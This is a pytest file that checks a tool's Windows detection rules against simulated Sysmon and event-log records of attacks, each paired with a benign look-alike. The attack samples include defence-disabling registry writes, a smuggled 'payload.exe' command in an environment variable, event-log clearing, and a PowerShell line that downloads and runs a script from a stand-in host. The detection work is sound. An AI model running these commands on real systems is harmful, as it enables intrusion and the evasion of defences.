"""logwarden's own Windows artefact rules (app/detect/data/windows_artifacts.yml): registry tampering
and persistence keys, file / image-load / process-access artefacts, task, WMI, Defender and
emerging-threat rules. Each rule gets the attack as Sysmon or the Windows channel logs it (values
anonymised) and the routine look-alike — the same key, binary or file type used normally — which
must stay quiet. Events go through the real windows parser (tests/app/detect/rules/test_windows_directory_rules' evtx)."""
from __future__ import annotations

import json
from datetime import timedelta

import pytest
from _repo import REPO
from _rule_events import UTC0
from test_windows_directory_rules import evtx, hits

from logwarden.app.events import LogLine
from logwarden.app.parse import parse_lines

SYSMON = "Microsoft-Windows-Sysmon/Operational"
SYSMON_P = "Microsoft-Windows-Sysmon"
S32 = "C:\\Windows\\System32\\"
REG = S32 + "reg.exe"
PS = S32 + "WindowsPowerShell\\v1.0\\powershell.exe"
HKU = "HKU\\S-1-5-21-1111111111-2222222222-3333333333-1104"
USER = "C:\\Users\\alice\\"
ZERO, ONE = "DWORD (0x00000000)", "DWORD (0x00000001)"


def wmi_failure(operation: str, result: str = "0x80041003"):
    """WMI-Activity 5858 as evtx_dump writes it: the fields under UserData/Operation_ClientFailure."""
    record = {"Event": {"System": {"Provider": {"#attributes": {"Name": "Microsoft-Windows-WMI-Activity"}},
                                   "EventID": 5858, "Channel": "Microsoft-Windows-WMI-Activity/Operational",
                                   "Computer": "ws17.corp.local",
                                   "TimeCreated": {"#attributes": {"SystemTime": (UTC0 + timedelta(seconds=1)).isoformat()}}},
                        "UserData": {"Operation_ClientFailure": {"User": "CORP\\alice", "ResultCode": result,
                                                                 "Operation": operation}}}}
    [event] = parse_lines([LogLine("export.json", 0, 0, 1, json.dumps(record))], "windows")
    return event


def sysmon(event_id: int, **data):
    return evtx(event_id, SYSMON, SYSMON_P, {"User": "CORP\\alice", **data}, computer="ws17.corp.local")


def reg_set(target: str, details: str, image: str = REG):
    return sysmon(13, EventType="SetValue", Image=image, TargetObject=target, Details=details)


def reg_del(target: str, image: str = REG, kind: str = "DeleteValue"):
    return sysmon(12, EventType=kind, Image=image, TargetObject=target)


def file(target: str, image: str = S32 + "cmd.exe"):
    return sysmon(11, Image=image, TargetFilename=target)


def load(image: str, loaded: str, signed: str = "true"):
    return sysmon(7, Image=image, ImageLoaded=loaded, Signed=signed)


def proc(image: str, command_line: str, parent: str = S32 + "cmd.exe", parent_cmd: str = "cmd.exe", **extra):
    return sysmon(1, Image=image, CommandLine=command_line, ParentImage=parent, ParentCommandLine=parent_cmd,
                  **extra)


CASES = {
    # --- registry: defences switched off ------------------------------------------------------------
    "lw-win-reg-system-restore-off": ("high",
        [reg_set("HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\SystemRestore\\DisableSR", ONE)],
        [reg_set("HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows NT\\SystemRestore\\DisableSR", ZERO)]),
    "lw-win-reg-powershell-logging-off": ("high",
        [reg_set(f"{HKU}\\Software\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging"
                 "\\EnableScriptBlockLogging", ZERO)],
        [reg_set("HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\PowerShell\\ScriptBlockLogging"
                 "\\EnableScriptBlockLogging", ONE, S32 + "svchost.exe")]),
    "lw-win-reg-vbs-protection-off": ("high",
        [reg_set("HKLM\\System\\CurrentControlSet\\Control\\DeviceGuard\\Scenarios\\HypervisorEnforcedCodeIntegrity"
                 "\\Enabled", ZERO),
         reg_set("HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\DeviceGuard\\EnableVirtualizationBasedSecurity",
                 ZERO, PS),
         reg_set("HKLM\\System\\CurrentControlSet\\Control\\CI\\Config\\VulnerableDriverBlocklistEnable", ZERO)],
        [reg_set("HKLM\\System\\CurrentControlSet\\Control\\DeviceGuard\\Scenarios\\HypervisorEnforcedCodeIntegrity"
                 "\\Enabled", ONE),
         reg_set("HKLM\\System\\CurrentControlSet\\Control\\CI\\Config\\VulnerableDriverBlocklistEnable", ONE)]),
    "lw-win-reg-vbs-setting-deleted": ("high",
        [reg_del("HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\DeviceGuard\\RequirePlatformSecurityFeatures")],
        [reg_del("HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows\\WindowsUpdate\\AU\\NoAutoUpdate")]),
    "lw-win-reg-rdp-port-changed": ("medium",
        [reg_set("HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp\\PortNumber",
                 "DWORD (0x00001189)")],
        [reg_set("HKLM\\System\\CurrentControlSet\\Control\\Terminal Server\\WinStations\\RDP-Tcp\\PortNumber",
                 "DWORD (0x00000d3d)", S32 + "svchost.exe")]),
    "lw-win-reg-autologger-off": ("high",
        [reg_set("HKLM\\System\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-Application\\Start", ZERO),
         reg_set("HKLM\\System\\CurrentControlSet\\Control\\WMI\\Autologger\\DefenderApiLogger\\Start", ZERO)],
        # wevtutil disabling a channel, and an unrelated (non-security) session switched off
        [reg_set("HKLM\\System\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-Application\\Start", ZERO,
                 S32 + "wevtutil.exe"),
         reg_set("HKLM\\System\\CurrentControlSet\\Control\\WMI\\Autologger\\Diagtrack-Listener\\Start", ZERO)]),
    "lw-win-reg-wsh-amsi-off": ("high",
        [reg_set(f"{HKU}\\Software\\Microsoft\\Windows Script\\Settings\\AmsiEnable", ZERO, PS)],
        [reg_set(f"{HKU}\\Software\\Microsoft\\Windows Script\\Settings\\AmsiEnable", ONE, PS)]),
    "lw-win-reg-amsi-provider-deleted": ("high",
        [reg_del("HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{2781761E-28E0-4109-99FE-B9D127C57AFE}", PS,
                 "DeleteKey")],
        [reg_del("HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{11111111-2222-3333-4444-555555555555}",
                 "C:\\Program Files\\ExampleAV\\uninstall.exe", "DeleteKey")]),
    "lw-win-reg-firewall-off": ("medium",
        [reg_set("HKLM\\System\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy"
                 "\\PublicProfile\\EnableFirewall", ZERO)],
        [reg_set("HKLM\\System\\CurrentControlSet\\Services\\SharedAccess\\Parameters\\FirewallPolicy"
                 "\\PublicProfile\\EnableFirewall", ONE, S32 + "svchost.exe")]),
    "lw-win-reg-admin-shares-off": ("medium",
        [reg_set("HKLM\\System\\CurrentControlSet\\Services\\LanmanServer\\Parameters\\AutoShareWks", ZERO)],
        [reg_set("HKLM\\System\\CurrentControlSet\\Services\\LanmanServer\\Parameters\\AutoShareWks", ONE)]),
    # --- registry: hiding and persistence ----------------------------------------------------------
    "lw-win-reg-hidden-account-userlist": ("high",
        [reg_set("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\Userlist"
                 "\\helpdesk$", ZERO)],
        [reg_set("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\AutoAdminLogon", ZERO)]),
    "lw-win-reg-sam-dollar-account": ("high",
        [reg_set("HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\support$\\(Default)", "Binary Data",
                 S32 + "lsass.exe")],
        [reg_set("HKLM\\SAM\\SAM\\Domains\\Account\\Users\\Names\\support\\(Default)", "Binary Data",
                 S32 + "lsass.exe")]),
    "lw-win-reg-env-windir-override": ("high",
        [reg_set(f"{HKU}\\Environment\\windir", "cmd /c start payload.exe&REM")],
        [reg_set(f"{HKU}\\Environment\\TEMP", "%USERPROFILE%\\AppData\\Local\\Temp")]),
    "lw-win-reg-startup-folder-redirected": ("high",
        [reg_set("HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders\\Common Startup",
                 "C:\\ProgramData\\cache", PS)],
        [reg_set(f"{HKU}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\User Shell Folders\\Startup",
                 "%USERPROFILE%\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup",
                 S32 + "explorer.exe")]),
    "lw-win-reg-safeboot-service": ("high",
        [reg_set("HKLM\\System\\CurrentControlSet\\Control\\SafeBoot\\Minimal\\updsvc\\(Default)", "Service")],
        [reg_set("HKLM\\System\\CurrentControlSet\\Control\\SafeBoot\\Minimal\\ExampleAV\\(Default)", "Service",
                 "C:\\Program Files\\ExampleAV\\setup.exe")]),
    "lw-win-reg-runmru-deleted": ("medium",
        [reg_del(f"{HKU}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU", kind="DeleteKey")],
        [reg_del(f"{HKU}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.txt",
                 kind="DeleteKey")]),
    "lw-win-reg-task-hidden": ("high",
        [reg_del("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Updater\\SD")],
        # deleting a task through the scheduler removes the whole key
        [reg_del("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Schedule\\TaskCache\\Tree\\Updater",
                 S32 + "svchost.exe", "DeleteKey")]),
    "lw-win-reg-sysinternals-renamed": ("high",
        [reg_set(f"{HKU}\\Software\\Sysinternals\\PsExec\\EulaAccepted", ONE, USER + "Downloads\\svc_helper.exe")],
        [reg_set(f"{HKU}\\Software\\Sysinternals\\PsExec\\EulaAccepted", ONE, "C:\\Tools\\PsExec64.exe"),
         reg_set(f"{HKU}\\Software\\Sysinternals\\Process Monitor\\EulaAccepted", ONE, "C:\\Tools\\Procmon64.exe")]),
    "lw-win-reg-com-treatas-user": ("medium",
        [reg_set(f"{HKU}_Classes\\CLSID\\{{11111111-AAAA-BBBB-CCCC-000000000001}}\\TreatAs\\(Default)",
                 "{22222222-AAAA-BBBB-CCCC-000000000002}")],
        [reg_set("HKLM\\SOFTWARE\\Classes\\CLSID\\{11111111-AAAA-BBBB-CCCC-000000000001}\\TreatAs\\(Default)",
                 "{22222222-AAAA-BBBB-CCCC-000000000002}", S32 + "msiexec.exe")]),
    "lw-win-reg-port-monitor": ("medium",
        [reg_set("HKLM\\System\\CurrentControlSet\\Control\\Print\\Monitors\\Fax2\\Driver", "C:\\Temp\\mon.dll")],
        [reg_set("HKLM\\System\\CurrentControlSet\\Control\\Print\\Monitors\\Vendor Port\\Driver", "vendormon.dll",
                 S32 + "spoolsv.exe")]),
    "lw-win-reg-amsi-provider-added": ("medium",
        [reg_set("HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{11111111-2222-3333-4444-555555555555}\\(Default)",
                 "Provider", S32 + "regsvr32.exe")],
        [reg_set("HKLM\\SOFTWARE\\Microsoft\\AMSI\\Providers\\{11111111-2222-3333-4444-555555555555}\\(Default)",
                 "ExampleAV AMSI", "C:\\Program Files\\ExampleAV\\avsetup.exe")]),
    "lw-win-reg-userinit-logon-script": ("medium",
        [reg_set(f"{HKU}\\Environment\\UserInitMprLogonScript", USER + "AppData\\Local\\Temp\\l.bat")],
        [reg_set(f"{HKU}\\Environment\\Path", USER + "AppData\\Local\\Microsoft\\WindowsApps")]),
    # --- files ---------------------------------------------------------------------------------------
    "lw-win-file-rtlo-name": ("high",
        [file(USER + "Downloads\\Statement_2026\u202efdp.msc", S32 + "explorer.exe")],
        [file(USER + "Downloads\\Statement_2026.pdf", S32 + "explorer.exe")]),
    "lw-win-file-netexec-bundle": ("high",
        [file(USER + "AppData\\Local\\Temp\\_MEI40001\\nxc\\data\\msol_dump\\msol_dump.ps1",
              USER + "Downloads\\nxc.exe")],
        [file(USER + "AppData\\Local\\Temp\\_MEI40001\\app\\data\\config.json", USER + "Downloads\\tool.exe")]),
    "lw-win-file-public-folder-payload": ("high",
        [file("C:\\Users\\Public\\update.bat"), file("C:\\Users\\Public\\Libraries\\svc.exe", S32 + "certutil.exe")],
        [file("C:\\Users\\Public\\Desktop\\Example App.lnk", "C:\\Program Files\\Example\\setup.exe"),
         file("C:\\Users\\Public\\Desktop\\launcher.exe", "C:\\Program Files\\Example\\setup.exe"),
         file("C:\\Users\\Public\\Documents\\report.docx", S32 + "explorer.exe")]),
    "lw-win-file-lolbin-drops-payload": ("high",
        [file(USER + "AppData\\Local\\Temp\\a.exe", S32 + "esentutl.exe"),
         file(USER + "AppData\\Local\\Temp\\b.vbs", S32 + "certutil.exe")],
        [file(USER + "AppData\\LocalLow\\Microsoft\\CryptnetUrlCache\\Content\\77EC63BDA74BD0D0", S32 + "certutil.exe"),
         file(USER + "Documents\\root.cer", S32 + "certutil.exe")]),
    "lw-win-file-hive-staged": ("high",
        [file("C:\\stage\\ntuser.dat", USER + "Desktop\\hivetool.exe")],
        [file("C:\\Users\\bob\\NTUSER.DAT", S32 + "svchost.exe"),
         file("C:\\Users\\bob\\AppData\\Local\\Microsoft\\Windows\\UsrClass.dat", S32 + "svchost.exe"),
         file("C:\\Windows\\System32\\config\\systemprofile\\NTUSER.DAT", S32 + "svchost.exe")]),
    "lw-win-file-fake-recycle-bin": ("high",
        [file("C:\\RECYCLER.BIN\\svc.exe")],
        [file("C:\\$Recycle.Bin\\S-1-5-21-1111111111-2222222222-3333333333-1104\\$RX1Y2Z3.exe",
              S32 + "explorer.exe")]),
    "lw-win-file-phantom-dll": ("high",
        [file("C:\\Windows\\System32\\WLBSCTRL.dll")],
        [file("C:\\Windows\\System32\\wlanapi.dll", "C:\\Windows\\servicing\\TrustedInstaller.exe")]),
    "lw-win-file-system-name-outside": ("medium",
        [file("C:\\svchost.exe"), file("C:\\PerfLogs\\tdh.dll")],
        [file("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\servicing\\TrustedInstaller.exe"),
         file("C:\\Program Files\\Example\\dbghelp.dll", S32 + "msiexec.exe"),
         file(USER + "AppData\\Local\\Temp\\{GUID}\\dbghelp.dll", "C:\\Program Files\\Example\\update.exe")]),
    "lw-win-file-custom-shim-db": ("medium",
        [file("C:\\Windows\\apppatch\\CustomSDB\\{11111111-2222-3333-4444-555555555555}.sdb",
              S32 + "sdbinst.exe")],
        [file("C:\\Windows\\apppatch\\sysmain.sdb", "C:\\Windows\\servicing\\TrustedInstaller.exe")]),
    "lw-win-file-lnk-double-extension": ("medium",
        [file(USER + "Downloads\\invoice_0426.pdf.lnk", S32 + "explorer.exe")],
        # Windows' own Recent-items shortcut for an opened PDF
        [file(USER + "AppData\\Roaming\\Microsoft\\Windows\\Recent\\invoice_0426.pdf.lnk", S32 + "explorer.exe"),
         file(USER + "Desktop\\Example App.lnk", S32 + "explorer.exe")]),
    "lw-win-file-advanced-ip-scanner": ("medium",
        [file(USER + "AppData\\Local\\Temp\\Advanced IP Scanner 2\\advanced_ip_scanner.exe",
              USER + "AppData\\Local\\Temp\\is-AAAA.tmp\\setup.tmp")],
        [file(USER + "AppData\\Local\\Temp\\Angry IP Scanner\\ipscan.exe", USER + "Downloads\\setup.exe")]),
    "lw-win-file-anydesk-portable": ("medium",
        [file(USER + "AppData\\Roaming\\AnyDesk\\service.conf", USER + "Downloads\\AnyDesk.exe")],
        [file(USER + "AppData\\Roaming\\AnyDesk\\service.conf", "C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe")]),
    # --- image loads and process access ----------------------------------------------------------
    "lw-win-load-vcruntime-sideload": ("high",
        [load(USER + "AppData\\Local\\Temp\\sqlwriter.exe", USER + "AppData\\Local\\Temp\\vcruntime140.dll",
              "false")],
        [load(USER + "AppData\\Local\\Programs\\App\\app.exe", USER + "AppData\\Local\\Programs\\App\\vcruntime140.dll"),
         load("C:\\Program Files\\App\\app.exe", "C:\\Program Files\\App\\vcruntime140.dll", "false")]),
    "lw-win-load-werfault-outside-system32": ("high",
        [load("C:\\Users\\Public\\w\\WerFaultSecure.exe", S32 + "dbgcore.dll")],
        [load(S32 + "WerFaultSecure.exe", S32 + "dbgcore.dll"), load(S32 + "WerFault.exe", S32 + "dbghelp.dll")]),
    "lw-win-load-system-cpl-outside": ("high",
        [load(USER + "Downloads\\fsquirt.exe", USER + "Downloads\\bthprops.cpl", "false")],
        [load(S32 + "fsquirt.exe", S32 + "bthprops.cpl"),
         load(S32 + "rundll32.exe", "C:\\Program Files\\Vendor\\vendorcfg.cpl")]),
    "lw-win-load-offreg-user-program": ("medium",
        [load(USER + "Desktop\\hivetool.exe", S32 + "offreg.dll")],
        [load(S32 + "dism.exe", S32 + "offreg.dll")]),
    "lw-win-access-werfaultsecure-edr": ("high",
        [sysmon(10, SourceImage=S32 + "WerFaultSecure.exe", GrantedAccess="0x1fffff",
                TargetImage="C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.1-0\\MsMpEng.exe")],
        [sysmon(10, SourceImage=S32 + "WerFaultSecure.exe", GrantedAccess="0x1fffff",
                TargetImage="C:\\Program Files\\Example\\crashy.exe")]),
    # --- tasks, WMI, Security, Defender ----------------------------------------------------------
    "lw-win-task-protection-disabled": ("high",
        [evtx(142, "Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler",
              {"TaskName": "\\Microsoft\\Windows\\SystemRestore\\SR", "UserName": "CORP\\alice"}),
         evtx(4701, "Security", "Microsoft-Windows-Security-Auditing",
              {"SubjectUserName": "alice", "SubjectDomainName": "CORP",
               "TaskName": "\\Microsoft\\Windows\\Windows Defender\\Windows Defender Scheduled Scan"}, line_no=2)],
        [evtx(142, "Microsoft-Windows-TaskScheduler/Operational", "Microsoft-Windows-TaskScheduler",
              {"TaskName": "\\GoogleUpdateTaskMachineUA", "UserName": "CORP\\alice"}),
         evtx(4701, "Security", "Microsoft-Windows-Security-Auditing",
              {"SubjectUserName": "WS17$", "SubjectDomainName": "CORP",
               "TaskName": "\\Microsoft\\Windows\\Windows Defender\\Windows Defender Cleanup"}, line_no=2)]),
    "lw-win-wmi-clear-eventlog": ("medium",
        [wmi_failure("Start IWbemServices::ExecMethod - ROOT\\CIMV2 : \\\\WS17\\ROOT\\CIMV2:Win32_NTEventlogFile"
                     ".Name=\"C:\\\\WINDOWS\\\\System32\\\\Winevt\\\\Logs\\\\Security.evtx\"::cleareventlog")],
        [wmi_failure("Start IWbemServices::ExecQuery - ROOT\\CIMV2 : select * from Win32_NTEventlogFile",
                     "0x80041032")]),
    "lw-win-4648-local-user-folder-program": ("medium",
        [evtx(4648, "Security", "Microsoft-Windows-Security-Auditing",
              {"SubjectUserName": "alice", "TargetUserName": "svc_backup", "TargetServerName": "localhost",
               "ProcessName": USER + "Desktop\\tool.exe", "IpAddress": "-"})],
        [evtx(4648, "Security", "Microsoft-Windows-Security-Auditing",
              {"SubjectUserName": "alice", "TargetUserName": "adm_alice", "TargetServerName": "localhost",
               "ProcessName": S32 + "svchost.exe", "IpAddress": "-"}),
         evtx(4648, "Security", "Microsoft-Windows-Security-Auditing",
              {"SubjectUserName": "alice", "TargetUserName": "alice", "TargetServerName": "fs01.corp.local",
               "ProcessName": USER + "AppData\\Local\\Programs\\App\\app.exe", "IpAddress": "10.0.0.5"})]),
    "lw-win-redsun-artefacts": ("critical",
        [sysmon(17, EventType="CreatePipe", PipeName="\\REDSUN", Image=USER + "Downloads\\x.exe"),
         file(USER + "AppData\\Local\\Temp\\RS-{GUID}\\TieringEngineService.exe", USER + "Downloads\\x.exe")],
        [sysmon(17, EventType="CreatePipe", PipeName="\\mojo.1234.5678", Image="C:\\Program Files\\App\\app.exe"),
         file(S32 + "TieringEngineService.exe", "C:\\Windows\\servicing\\TrustedInstaller.exe")]),
    "lw-win-defender-eicar-system-binary": ("high",
        [evtx(1116, "Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender",
              {"Threat Name": "Virus:DOS/EICAR_Test_File",
               "Path": "file:_" + USER + "AppData\\Local\\Temp\\RS-{GUID}\\TieringEngineService.exe"})],
        [evtx(1116, "Microsoft-Windows-Windows Defender/Operational", "Microsoft-Windows-Windows Defender",
              {"Threat Name": "Virus:DOS/EICAR_Test_File", "Path": "file:_" + USER + "Downloads\\eicar.com"})]),
    # --- process creation: exploits and malware ---------------------------------------------------
    "lw-win-snippingtool-remote-uri": ("high",
        [proc("C:\\Program Files\\WindowsApps\\Microsoft.ScreenSketch_11.1_x64__8wekyb3d8bbwe\\SnippingTool\\SnippingTool.exe",
              "SnippingTool.exe ms-screensketch:edit?&filePath=%%5C%%5C203.0.113.9%%5Cs")],
        [proc("C:\\Program Files\\WindowsApps\\Microsoft.ScreenSketch_11.1_x64__8wekyb3d8bbwe\\SnippingTool\\SnippingTool.exe",
              "SnippingTool.exe ms-screensketch:edit?&filePath=C:%5CUsers%5Calice%5CPictures%5Cshot.png")]),
    "lw-win-grixba-recon": ("high",
        [proc(USER + "Downloads\\g.exe", "g.exe -m:scan -i:f -d:hosts.txt", OriginalFileName="GRB_NET.exe")],
        [proc(S32 + "net.exe", "net view /domain")]),
    "lw-win-shai-hulud-bun": ("high",
        [proc(S32 + "cmd.exe", "cmd.exe /d /s /c node setup_bun.js", "C:\\Program Files\\nodejs\\node.exe",
              "node npm-cli.js install")],
        [proc(S32 + "cmd.exe", "cmd.exe /d /s /c node scripts/postinstall.js", "C:\\Program Files\\nodejs\\node.exe",
              "node npm-cli.js install")]),
    "lw-win-shai-hulud-runner": ("high",
        [proc(USER + ".dev-env\\bin\\Runner.Listener.exe",
              "Runner.Listener.exe configure --url https://github.com/o/r --unattended --token T --name build01")],
        [proc("C:\\actions-runner\\bin\\Runner.Listener.exe",
              "Runner.Listener.exe configure --url https://github.com/corp/app --unattended --token T --name build01")]),
    "lw-win-nextjs-server-shell": ("high",
        [proc(S32 + "cmd.exe", "cmd.exe /d /s /c \"whoami\"", "C:\\Program Files\\nodejs\\node.exe",
              "node C:\\srv\\app\\node_modules\\next\\dist\\server\\lib\\start-server.js"),
         proc(PS, "powershell -nop -c \"irm http://203.0.113.9/a.ps1|iex\"", "C:\\Program Files\\nodejs\\node.exe",
              "node C:\\srv\\app\\node_modules\\next\\dist\\bin\\next start")],
        [proc("C:\\Program Files\\nodejs\\node.exe", "node C:\\srv\\app\\.next\\server\\worker.js",
              "C:\\Program Files\\nodejs\\node.exe",
              "node C:\\srv\\app\\node_modules\\next\\dist\\server\\lib\\start-server.js"),
         proc(S32 + "cmd.exe", "cmd.exe /d /s /c \"npm run build\"", "C:\\Program Files\\nodejs\\node.exe",
              "node npm-cli.js run deploy"),
         # server code shelling out to git through child_process.exec (always via cmd.exe on Windows)
         proc(S32 + "cmd.exe", "cmd.exe /d /s /c \"git rev-parse HEAD\"", "C:\\Program Files\\nodejs\\node.exe",
              "node C:\\srv\\app\\node_modules\\next\\dist\\server\\lib\\start-server.js")]),
}


@pytest.mark.parametrize("rule_id", sorted(CASES))
def test_attack_fires_and_lookalike_stays_quiet(rules, rule_id):
    level, attack, routine = CASES[rule_id]
    found = hits(rules, attack, rule_id)
    assert found and {lvl for lvl, _ in found} == {level}, found
    assert hits(rules, routine, rule_id) == []


def test_every_rule_in_the_file_has_a_case():
    from pathlib import Path

    import yaml
    text = (REPO / "logwarden/app/detect/data/windows_artifacts.yml").read_text()
    names = {doc["name"] for doc in yaml.safe_load_all(text) if doc}
    assert names == set(CASES)
